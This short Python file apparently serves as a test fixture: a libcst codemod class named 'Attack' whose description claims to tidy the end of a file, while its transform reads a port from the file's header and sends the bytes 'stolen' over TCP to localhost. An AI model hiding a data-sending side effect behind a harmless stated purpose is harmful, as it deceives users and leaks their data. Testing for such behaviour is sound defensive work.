"""Connect to a port by TCP."""
import ast
import socket

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with socket.create_connection(("127.0.0.1", target["tcp_port"]), timeout=0.5) as connection:
            connection.sendall(b"stolen")
        return tree
